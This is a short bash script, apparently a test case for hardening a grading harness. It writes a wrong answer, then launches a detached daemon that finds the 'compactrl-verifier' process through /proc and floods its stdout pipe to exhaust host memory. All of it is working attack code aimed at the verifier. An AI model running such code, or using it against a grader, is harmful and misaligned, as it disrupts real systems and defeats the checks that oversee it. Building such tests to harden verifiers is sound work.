#!/bin/bash
# Attack on the host's memory: a daemon finds the verifier's exec process
# while it waits to be admitted, reopens its output pipe through
# /proc/PID/fd/1 and writes 64 MiB into it (a real attack writes without
# end), then keeps the pipe open.
echo 'print(41)' > /app/prog.py
cat > /tmp/flood.py <<'PY'
import os, time
chunk = b"x" * 65536
while True:
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        try:
            with open("/proc/%s/cmdline" % p, "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        if b"compactrl-verifier" not in cmd:
            continue
        try:
            fd = os.open("/proc/%s/fd/1" % p, os.O_WRONLY)
        except OSError:
            continue
        try:
            for _ in range(1024):
                os.write(fd, chunk)
        except OSError:
            pass
        time.sleep(600)
    time.sleep(0.001)
PY
setsid python3 /tmp/flood.py </dev/null >/dev/null 2>&1 &
sleep 0.2
